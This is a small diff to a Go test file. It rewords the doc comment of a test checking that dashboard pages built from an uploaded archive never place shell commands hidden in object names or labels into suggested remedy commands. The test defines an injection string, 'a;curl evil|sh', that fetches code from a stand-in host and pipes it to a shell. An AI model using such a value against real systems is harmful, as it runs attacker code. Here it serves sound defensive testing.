@@ -148,7 +148,7 @@ func TestArchiveSaysWhatIsMissing(t *testing.T) {
 // TestAttackDashboardArchiveRemedies: somebody sends an archive with objects whose names, namespaces, labels, cluster IDs
 // and resources are commands of a shell, in the hope that a remedy with one is typed.
 //
-// Outcome: the pages show none of them, and say how many objects are left out.
+// Outcome: no command on the pages has one of them, and the pages say how many objects are left out.
 func TestAttackDashboardArchiveRemedies(t *testing.T) {
 	const attack = "a;curl evil|sh"
 	s := recorded(t)
